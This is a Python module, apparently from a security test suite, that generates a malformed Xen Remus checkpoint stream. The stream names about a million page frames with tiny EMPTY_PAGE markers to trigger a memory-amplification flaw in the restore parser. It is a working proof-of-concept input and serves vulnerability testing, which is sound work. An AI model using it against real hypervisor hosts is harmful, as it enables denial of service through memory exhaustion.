"""A Remus stream whose second checkpoint names `n` distinct PFNs, each
carried by a 1-byte EMPTY_PAGE marker (~9 stream bytes per PFN): the memory
amplification of issue 14.1.  Written straight to a file, numpy-fast."""
import struct

import numpy as np

from .hostile_streams import Builder, entry


def write(path, n=1 << 20, first=4, full_every=0):
    """Checkpoint 1 sends pfns 0..first-1; checkpoint 2 names pfns 0..n-1 in
    1024-entry batches, each page EMPTY (or, every `full_every`th page, FULL
    with zero bytes).  Returns the stream size."""
    p2m = max(n, first)
    b = Builder(8, "hvm", p2m, 4)
    b.hvm_header()
    b.vcpu_info(0, [0])
    b.batch([entry(p) for p in range(first)])
    b.marker(-13)                  # ENABLE_COMPRESSION
    b.end()
    b.hvm_tail(signature=b"RemusDeviceModelState")
    with open(path, "wb") as f:
        f.write(b.buf)
        pfns = np.arange(n, dtype="<u8")
        for i in range(0, n, 1024):
            part = pfns[i:i + 1024]
            f.write(struct.pack("<i", part.size) + part.tobytes())
        enc = bytearray(n)
        if full_every:
            out = bytearray()
            for i in range(n):
                out += b"\x80" + bytes(4096) if i % full_every == 0 else b"\x00"
            enc = out
        step = 1 << 20
        for i in range(0, len(enc), step):
            part = enc[i:i + step]
            f.write(struct.pack("<iQ", -12, len(part)) + part)
        f.write(struct.pack("<iIQ", -3, 0, 0x2000))   # HVM_IDENT_PT
        f.write(struct.pack("<i", 0))
        tail = Builder(8, "hvm", p2m, 4)
        tail.hvm_tail(magic=(0xfe, 0xff, 0xfc), signature=b"RemusDeviceModelState",
                      qemu=b"QEVM" + bytes(40))
        f.write(tail.buf[8:])     # (a Builder starts with its header)
        return f.tell()
